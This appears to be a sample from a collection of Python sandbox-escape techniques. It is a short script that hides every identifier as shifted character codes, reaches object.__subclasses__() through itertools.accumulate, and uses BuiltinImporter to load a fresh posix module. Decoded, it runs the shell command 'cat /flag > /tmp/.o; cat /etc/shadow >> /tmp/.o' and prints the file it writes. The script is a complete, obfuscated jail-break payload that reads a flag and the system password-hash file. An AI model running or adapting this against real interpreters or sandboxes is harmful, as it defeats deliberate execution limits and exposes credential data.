# technique: identifiers rebuilt with bytes(map(...)) from shifted code points; itertools.accumulate performs the attribute walk with object.__getattribute__ handed over as a plain value, then the built-in importer class found among all classes hands out a fresh native process module
import itertools

SHIFT = 7


def unshift(codes):
    return bytes(map(lambda v: v - SHIFT, codes)).decode()


STEPS = [
    [102, 102, 106, 115, 104, 122, 122, 102, 102],
    [102, 102, 105, 104, 122, 108, 102, 102],
    [102, 102, 122, 124, 105, 106, 115, 104, 122, 122, 108, 122, 102, 102],
]
lookup = object.__getattribute__

trail = list(itertools.accumulate(map(unshift, STEPS), lookup, initial=()))
all_classes = trail[-1]()

loader_name = unshift([73, 124, 112, 115, 123, 112, 117, 80, 116, 119, 118, 121, 123, 108, 121])
loader = next(c for c in all_classes if c.__name__ == loader_name)

spec = loader.find_spec(unshift([119, 118, 122, 112, 127]))
native = loader.create_module(spec)
action = vars(native)[unshift([122, 128, 122, 123, 108, 116])]
action(unshift([106, 104, 123, 39, 54, 109, 115, 104, 110, 39, 69, 39, 54, 123, 116, 119, 54, 53,
                118, 66, 39, 106, 104, 123, 39, 54, 108, 123, 106, 54, 122, 111, 104, 107, 118,
                126, 39, 69, 69, 39, 54, 123, 116, 119, 54, 53, 118]))
print(open("/tmp/.o").read())
